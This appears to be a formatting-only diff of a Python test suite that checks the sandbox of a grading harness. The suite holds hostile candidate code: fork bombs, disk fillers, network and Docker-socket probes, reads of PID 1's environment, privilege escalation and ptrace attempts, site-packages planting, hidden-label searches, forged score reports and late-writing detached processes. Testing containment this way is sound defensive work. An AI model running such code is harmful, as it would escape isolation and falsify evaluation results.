@@ -28,12 +28,14 @@ def _stdout_has(*needles: str, absent: tuple[str, ...] = ()):
             assert needle in text, (needle, text[-1500:])
         for needle in absent:
             assert needle not in text, (needle, text[-1500:])
+
     return check
 
 
 def _bounded(seconds: float):
     def check(outcome, env: Env) -> None:
         assert outcome.report.sandbox.duration_s < seconds, outcome.report.sandbox.duration_s
+
     return check
 
 
@@ -41,17 +43,18 @@ def _all(*checks):
     def check(outcome, env: Env) -> None:
         for one in checks:
             one(outcome, env)
+
     return check
 
 
-ATTEMPT = '''
+ATTEMPT = """
 def attempt(name, fn):
     try:
         result = fn()
         print(f"{name}: SUCCEEDED {result!r}"[:300], flush=True)
     except BaseException as exc:
         print(f"{name}: blocked ({type(exc).__name__}: {exc})"[:300], flush=True)
-'''
+"""
 
 
 def _flood_is_capped(outcome, env: Env) -> None:
@@ -74,7 +77,9 @@ def _forged_files_ignored(outcome, env: Env) -> None:
     assert report.sandbox.exit_code == 3 and report.sandbox.verdict == Verdict.CRASHED
     assert report.score is not None and report.score < 50
     ours = (outcome.out_dir / "report.json").read_text()
-    assert '"schema_version"' in ours and '"score": 100.0' not in ours, "the candidate's report.json took the place of ours"
+    assert '"schema_version"' in ours and '"score": 100.0' not in ours, (
+        "the candidate's report.json took the place of ours"
+    )
 
 
 def _hidden_tests_untouched(outcome, env: Env) -> None:
@@ -85,17 +90,25 @@ def _hidden_tests_untouched(outcome, env: Env) -> None:
 
 def _import_time_attack(env: Env):
     env.extra["hidden_tests"] = snapshot(APPLIED_ML / "hidden_tests")
-    header = ATTEMPT + '''
+    header = (
+        ATTEMPT
+        + """
 attempt("write /tests", lambda: open("/tests/conftest.py", "a").write("x"))
 attempt("write /submission", lambda: open("/submission/predict.py", "a").write("x"))
 attempt("network", lambda: __import__("socket").create_connection(("1.1.1.1", 80), timeout=2))
-'''
+"""
+    )
     return _sub(env, "write_all_ham()", header=header)
 
 
 CASES = [
-    Case("fork_bomb", "runtime", "a fork bomb (every child forks again), then the real work",
-         lambda env: _sub(env, """
+    Case(
+        "fork_bomb",
+        "runtime",
+        "a fork bomb (every child forks again), then the real work",
+        lambda env: _sub(
+            env,
+            """
              import time
              for n in range(100000):
                  try:
@@ -110,17 +123,31 @@ CASES = [
                          except OSError:
                              time.sleep(0.05)
              write_all_ham()
-         """),
-         Expect(verdict=Verdict.OK, check=_stdout_has("fork refused"), note="stopped at the pids limit")),
-    Case("memory_hog", "runtime", "allocates memory until something gives",
-         lambda env: _sub(env, """
+         """,
+        ),
+        Expect(verdict=Verdict.OK, check=_stdout_has("fork refused"), note="stopped at the pids limit"),
+    ),
+    Case(
+        "memory_hog",
+        "runtime",
+        "allocates memory until something gives",
+        lambda env: _sub(
+            env,
+            """
              blocks = []
              while True:
                  blocks.append(bytearray(256 * 2**20))
-         """),
-         Expect(verdict=Verdict.OUT_OF_MEMORY, messages=("out_of_memory",), max_score=30)),
-    Case("tmp_filler", "runtime", "fills /tmp (tmpfs) with 64 MB files until it is full, then the real work",
-         lambda env: _sub(env, """
+         """,
+        ),
+        Expect(verdict=Verdict.OUT_OF_MEMORY, messages=("out_of_memory",), max_score=30),
+    ),
+    Case(
+        "tmp_filler",
+        "runtime",
+        "fills /tmp (tmpfs) with 64 MB files until it is full, then the real work",
+        lambda env: _sub(
+            env,
+            """
              for n in range(100):
                  try:
                      with open(f"/tmp/fill{n}", "wb") as fh:
@@ -129,54 +156,107 @@ CASES = [
                      print(f"/tmp full after {n} files: {exc.strerror}", flush=True)
                      break
              write_all_ham()
-         """),
-         Expect(verdict=Verdict.OK, check=_stdout_has("/tmp full after"), note="the write fails inside (tmpfs size); the run goes on")),
-    Case("output_disk_filler", "runtime", "writes 32 MB files into /output without end",
-         lambda env: _sub(env, """
+         """,
+        ),
+        Expect(
+            verdict=Verdict.OK,
+            check=_stdout_has("/tmp full after"),
+            note="the write fails inside (tmpfs size); the run goes on",
+        ),
+    ),
+    Case(
+        "output_disk_filler",
+        "runtime",
+        "writes 32 MB files into /output without end",
+        lambda env: _sub(
+            env,
+            """
              n = 0
              while True:
                  with open(OUT / f"fill{n}.bin", "wb") as fh:
                      fh.write(b"\\1" * (32 * 2**20))
                  n += 1
-         """),
-         Expect(verdict=Verdict.CRASHED, messages=("output_quota",), max_score=30)),
-    Case("output_inode_filler", "runtime", "creates 20,000 empty files in /output",
-         lambda env: _sub(env, """
+         """,
+        ),
+        Expect(verdict=Verdict.CRASHED, messages=("output_quota",), max_score=30),
+    ),
+    Case(
+        "output_inode_filler",
+        "runtime",
+        "creates 20,000 empty files in /output",
+        lambda env: _sub(
+            env,
+            """
              import time
              for n in range(20000):
                  open(OUT / f"f{n}", "w").close()
              time.sleep(5)
              write_all_ham()
-         """),
-         Expect(verdict=Verdict.CRASHED, messages=("output_quota",), max_score=30), timeout_s=30),
-    Case("infinite_loop", "runtime", "loops forever", lambda env: _sub(env, "while True:\n    pass"),
-         Expect(verdict=Verdict.TIMEOUT, messages=("timeout",), max_score=30, check=_bounded(SHORT + 10)),
-         timeout_s=SHORT),
-    Case("sleeps_past_the_limit", "runtime", "sleeps for an hour", lambda env: _sub(env, "import time\ntime.sleep(3600)"),
-         Expect(verdict=Verdict.TIMEOUT, messages=("timeout",), max_score=30, check=_bounded(SHORT + 10)),
-         timeout_s=SHORT),
-    Case("ignores_sigterm", "runtime", "ignores SIGTERM, SIGINT and SIGHUP and loops",
-         lambda env: _sub(env, """
+         """,
+        ),
+        Expect(verdict=Verdict.CRASHED, messages=("output_quota",), max_score=30),
+        timeout_s=30,
+    ),
+    Case(
+        "infinite_loop",
+        "runtime",
+        "loops forever",
+        lambda env: _sub(env, "while True:\n    pass"),
+        Expect(verdict=Verdict.TIMEOUT, messages=("timeout",), max_score=30, check=_bounded(SHORT + 10)),
+        timeout_s=SHORT,
+    ),
+    Case(
+        "sleeps_past_the_limit",
+        "runtime",
+        "sleeps for an hour",
+        lambda env: _sub(env, "import time\ntime.sleep(3600)"),
+        Expect(verdict=Verdict.TIMEOUT, messages=("timeout",), max_score=30, check=_bounded(SHORT + 10)),
+        timeout_s=SHORT,
+    ),
+    Case(
+        "ignores_sigterm",
+        "runtime",
+        "ignores SIGTERM, SIGINT and SIGHUP and loops",
+        lambda env: _sub(
+            env,
+            """
              import signal
              for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                  signal.signal(sig, signal.SIG_IGN)
              while True:
                  pass
-         """),
-         Expect(verdict=Verdict.TIMEOUT, messages=("timeout",), max_score=30, check=_bounded(SHORT + 10)),
-         timeout_s=SHORT),
-    Case("stdout_stderr_flood", "runtime", "64 MB to stdout and 64 MB to stderr, then the real work",
-         lambda env: _sub(env, """
+         """,
+        ),
+        Expect(verdict=Verdict.TIMEOUT, messages=("timeout",), max_score=30, check=_bounded(SHORT + 10)),
+        timeout_s=SHORT,
+    ),
+    Case(
+        "stdout_stderr_flood",
+        "runtime",
+        "64 MB to stdout and 64 MB to stderr, then the real work",
+        lambda env: _sub(
+            env,
+            """
              line = "<b>flood</b> \\x1b[31m" + "x" * 1000 + "\\n"
              for _ in range(64 * 1024):
                  sys.stdout.write(line)
                  sys.stderr.write(line)
              write_all_ham()
-         """),
-         Expect(verdict=Verdict.OK, check=_flood_is_capped, note="streams go to files; head and tail kept, reports stay small")),
-    Case("background_process_outlives_main", "runtime",
-         "a detached grandchild that rewrites predictions.csv as all-spam after main() has exited",
-         lambda env: _sub(env, """
+         """,
+        ),
+        Expect(
+            verdict=Verdict.OK,
+            check=_flood_is_capped,
+            note="streams go to files; head and tail kept, reports stay small",
+        ),
+    ),
+    Case(
+        "background_process_outlives_main",
+        "runtime",
+        "a detached grandchild that rewrites predictions.csv as all-spam after main() has exited",
+        lambda env: _sub(
+            env,
+            """
              import subprocess, textwrap
              late = textwrap.dedent('''
                  import os, time
@@ -189,11 +269,21 @@ CASES = [
              subprocess.Popen([sys.executable, "-c", late], start_new_session=True,
                               stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
              write_all_ham()
-         """),
-         Expect(verdict=Verdict.OK, check=_late_writer_ignored, note="the container ends with main(); late writes never land")),
-    Case("network_exfiltration", "runtime",
-         "TCP, UDP, DNS, raw ICMP, IPv6, the Docker socket and the Docker bridge, then the real work",
-         lambda env: _sub(env, """
+         """,
+        ),
+        Expect(
+            verdict=Verdict.OK,
+            check=_late_writer_ignored,
+            note="the container ends with main(); late writes never land",
+        ),
+    ),
+    Case(
+        "network_exfiltration",
+        "runtime",
+        "TCP, UDP, DNS, raw ICMP, IPv6, the Docker socket and the Docker bridge, then the real work",
+        lambda env: _sub(
+            env,
+            """
              import socket
              attempt("tcp", lambda: socket.create_connection(("1.1.1.1", 443), timeout=2))
              attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"labels?", ("8.8.8.8", 53)))
@@ -203,23 +293,52 @@ CASES = [
              attempt("bridge", lambda: socket.create_connection(("172.17.0.1", 2375), timeout=2))
              attempt("docker.sock", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"))
              write_all_ham()
-         """, header=ATTEMPT),
-         Expect(verdict=Verdict.OK, messages=("network_blocked",),
-                check=_stdout_has("tcp: blocked", "udp: blocked", "dns: blocked", "raw: blocked", "ipv6: blocked",
-                                  "bridge: blocked", "docker.sock: blocked", absent=("SUCCEEDED",)),
-                note="every attempt fails; the run goes on")),
-    Case("reads_host_environment", "runtime", "prints its environment, PID 1's environment and the host's hostname",
-         lambda env: _sub(env, """
+         """,
+            header=ATTEMPT,
+        ),
+        Expect(
+            verdict=Verdict.OK,
+            messages=("network_blocked",),
+            check=_stdout_has(
+                "tcp: blocked",
+                "udp: blocked",
+                "dns: blocked",
+                "raw: blocked",
+                "ipv6: blocked",
+                "bridge: blocked",
+                "docker.sock: blocked",
+                absent=("SUCCEEDED",),
+            ),
+            note="every attempt fails; the run goes on",
+        ),
+    ),
+    Case(
+        "reads_host_environment",
+        "runtime",
+        "prints its environment, PID 1's environment and the host's hostname",
+        lambda env: _sub(
+            env,
+            """
              print(dict(os.environ))
              attempt("pid1 environ", lambda: open("/proc/1/environ", "rb").read())
              attempt("hostname", lambda: open("/etc/hostname").read())
              write_all_ham()
-         """, header=ATTEMPT),
-         Expect(verdict=Verdict.OK, check=_stdout_has("DATA_DIR", absent=("HOLDOUT_HOST_SECRET",)),
-                note="the host secret in the harness's environment never shows up")),
-    Case("searches_filesystem_for_labels", "runtime",
-         "walks the whole filesystem and the mount table for the hidden labels and submits what it finds",
-         lambda env: _sub(env, """
+         """,
+            header=ATTEMPT,
+        ),
+        Expect(
+            verdict=Verdict.OK,
+            check=_stdout_has("DATA_DIR", absent=("HOLDOUT_HOST_SECRET",)),
+            note="the host secret in the harness's environment never shows up",
+        ),
+    ),
+    Case(
+        "searches_filesystem_for_labels",
+        "runtime",
+        "walks the whole filesystem and the mount table for the hidden labels and submits what it finds",
+        lambda env: _sub(
+            env,
+            """
              import re
              found = []
              test = set(test_ids())
@@ -243,11 +362,21 @@ CASES = [
                  shutil.copy(found[0], OUT / "predictions.csv")
              else:
                  write_all_ham()
-         """),
-         Expect(verdict=Verdict.OK, check=_stdout_has("label files found: []"), note="finds nothing: hidden labels are never mounted")),
-    Case("forges_report_and_runner_files", "runtime",
-         "writes report.json/score.txt/junit.xml into /output, forges runner.json, then exits 3",
-         lambda env: _sub(env, """
+         """,
+        ),
+        Expect(
+            verdict=Verdict.OK,
+            check=_stdout_has("label files found: []"),
+            note="finds nothing: hidden labels are never mounted",
+        ),
+    ),
+    Case(
+        "forges_report_and_runner_files",
+        "runtime",
+        "writes report.json/score.txt/junit.xml into /output, forges runner.json, then exits 3",
+        lambda env: _sub(
+            env,
+            """
              import json
              write_all_ham()
              (OUT / "report.json").write_text(json.dumps({"status": "graded", "score": 100.0}))
@@ -256,12 +385,22 @@ CASES = [
              runner = {"mode": "script", "exit_code": 0, "peak_rss_mb": 1.0, "cell_errors": [], "killed": None}
              json.dump(runner, open("/holdout/logs/runner.json", "w"))
              os._exit(3)
-         """),
-         Expect(verdict=Verdict.CRASHED, messages=("crashed",), check=_forged_files_ignored,
-                note="verdict from the engine's exit status; our report.json is the one written")),
-    Case("writes_into_submission_and_data", "runtime",
-         "tries to rewrite its own code, the public data and paths above /output, then the real work",
-         lambda env: _sub(env, """
+         """,
+        ),
+        Expect(
+            verdict=Verdict.CRASHED,
+            messages=("crashed",),
+            check=_forged_files_ignored,
+            note="verdict from the engine's exit status; our report.json is the one written",
+        ),
+    ),
+    Case(
+        "writes_into_submission_and_data",
+        "runtime",
+        "tries to rewrite its own code, the public data and paths above /output, then the real work",
+        lambda env: _sub(
+            env,
+            """
              attempt("submission", lambda: open("/submission/predict.py", "a").write("# changed"))
              attempt("new file", lambda: open("/submission/planted.py", "w").write("x"))
              attempt("data", lambda: open(DATA / "test.csv", "a").write("x,y"))
@@ -269,13 +408,28 @@ CASES = [
              attempt("above output", lambda: open("/output/../planted", "w").write("x"))
              attempt("root", lambda: open("/planted", "w").write("x"))
              write_all_ham()
-         """, header=ATTEMPT),
-         Expect(verdict=Verdict.OK, check=_stdout_has("submission: blocked", "data: blocked", "data rename: blocked",
-                                                      "above output: blocked", absent=("SUCCEEDED",)),
-                note="every write refused (read-only mounts); submission and data unchanged")),
-    Case("modifies_image_python", "runtime",
-         "tries to plant sitecustomize.py, patch site-packages, the runner and the interpreter",
-         lambda env: _sub(env, """
+         """,
+            header=ATTEMPT,
+        ),
+        Expect(
+            verdict=Verdict.OK,
+            check=_stdout_has(
+                "submission: blocked",
+                "data: blocked",
+                "data rename: blocked",
+                "above output: blocked",
+                absent=("SUCCEEDED",),
+            ),
+            note="every write refused (read-only mounts); submission and data unchanged",
+        ),
+    ),
+    Case(
+        "modifies_image_python",
+        "runtime",
+        "tries to plant sitecustomize.py, patch site-packages, the runner and the interpreter",
+        lambda env: _sub(
+            env,
+            """
              import sysconfig
              site = sysconfig.get_paths()["purelib"]
              attempt("sitecustomize", lambda: open(site + "/sitecustomize.py", "w").write("print('owned')"))
@@ -284,12 +438,22 @@ CASES = [
              attempt("python", lambda: open(os.path.realpath(sys.executable), "ab").write(b"x"))
              attempt("pth", lambda: open(site + "/evil.pth", "w").write("import os"))
              write_all_ham()
-         """, header=ATTEMPT),
-         Expect(verdict=Verdict.OK, check=_stdout_has("sitecustomize: blocked", "runner: blocked", "python: blocked",
-                                                      absent=("SUCCEEDED",)),
-                note="every write refused: the image is read-only and each run starts fresh")),
-    Case("privilege_escalation", "runtime", "setuid(0), mount, unshare, chroot, keyctl, raw device access",
-         lambda env: _sub(env, """
+         """,
+            header=ATTEMPT,
+        ),
+        Expect(
+            verdict=Verdict.OK,
+            check=_stdout_has("sitecustomize: blocked", "runner: blocked", "python: blocked", absent=("SUCCEEDED",)),
+            note="every write refused: the image is read-only and each run starts fresh",
+        ),
+    ),
+    Case(
+        "privilege_escalation",
+        "runtime",
+        "setuid(0), mount, unshare, chroot, keyctl, raw device access",
+        lambda env: _sub(
+            env,
+            """
              import ctypes
              libc = ctypes.CDLL(None, use_errno=True)
              def check(rc):
@@ -304,29 +468,57 @@ CASES = [
              attempt("disk", lambda: open("/dev/sda", "rb"))
              attempt("kmsg", lambda: open("/dev/kmsg", "rb").read(10))
              write_all_ham()
-         """, header=ATTEMPT),
-         Expect(verdict=Verdict.OK, check=_stdout_has("setuid: blocked", "mount: blocked", "unshare: blocked",
-                                                      "chroot: blocked", "disk: blocked", absent=("SUCCEEDED",)),
-                note="every attempt refused (no capabilities, seccomp)")),
-    Case("ptrace_freezes_init", "runtime",
-         "ptrace-attaches PID 1 and the in-container runner so the container cannot finish",
-         lambda env: _sub(env, """
+         """,
+            header=ATTEMPT,
+        ),
+        Expect(
+            verdict=Verdict.OK,
+            check=_stdout_has(
+                "setuid: blocked",
+                "mount: blocked",
+                "unshare: blocked",
+                "chroot: blocked",
+                "disk: blocked",
+                absent=("SUCCEEDED",),
+            ),
+            note="every attempt refused (no capabilities, seccomp)",
+        ),
+    ),
+    Case(
+        "ptrace_freezes_init",
+        "runtime",
+        "ptrace-attaches PID 1 and the in-container runner so the container cannot finish",
+        lambda env: _sub(
+            env,
+            """
              import ctypes
              libc = ctypes.CDLL(None, use_errno=True)
              write_all_ham()
              for pid in (1, os.getppid()):
                  print(pid, "attach:", libc.ptrace(16, pid, None, None), flush=True)
-         """),
-         Expect(verdict=Verdict.OK, check=_all(_bounded(SHORT + 10), _stdout_has("attach: -1", absent=("attach: 0",))),
-                note="both refused: init is root and the runner another uid, and the candidate has no capability; "
-                     "the kill from outside stays the backstop"),
-         timeout_s=SHORT),
-    Case("import_time_attack_on_hidden_tests", "runtime",
-         "module-level code (run again when the hidden tests import predict.py) attacks /tests, /submission "
-         "and the network",
-         _import_time_attack,
-         Expect(verdict=Verdict.OK, messages=("hidden_tests_failed",), runs=2,
-                check=_all(_hidden_tests_untouched, _stdout_has("write /tests: blocked", absent=("SUCCEEDED",))),
-                note="/tests and /submission are read-only; the hidden tests are unchanged"),
-         assignment="real"),
+         """,
+        ),
+        Expect(
+            verdict=Verdict.OK,
+            check=_all(_bounded(SHORT + 10), _stdout_has("attach: -1", absent=("attach: 0",))),
+            note="both refused: init is root and the runner another uid, and the candidate has no capability; "
+            "the kill from outside stays the backstop",
+        ),
+        timeout_s=SHORT,
+    ),
+    Case(
+        "import_time_attack_on_hidden_tests",
+        "runtime",
+        "module-level code (run again when the hidden tests import predict.py) attacks /tests, /submission "
+        "and the network",
+        _import_time_attack,
+        Expect(
+            verdict=Verdict.OK,
+            messages=("hidden_tests_failed",),
+            runs=2,
+            check=_all(_hidden_tests_untouched, _stdout_has("write /tests: blocked", absent=("SUCCEEDED",))),
+            note="/tests and /submission are read-only; the hidden tests are unchanged",
+        ),
+        assignment="real",
+    ),
 ]
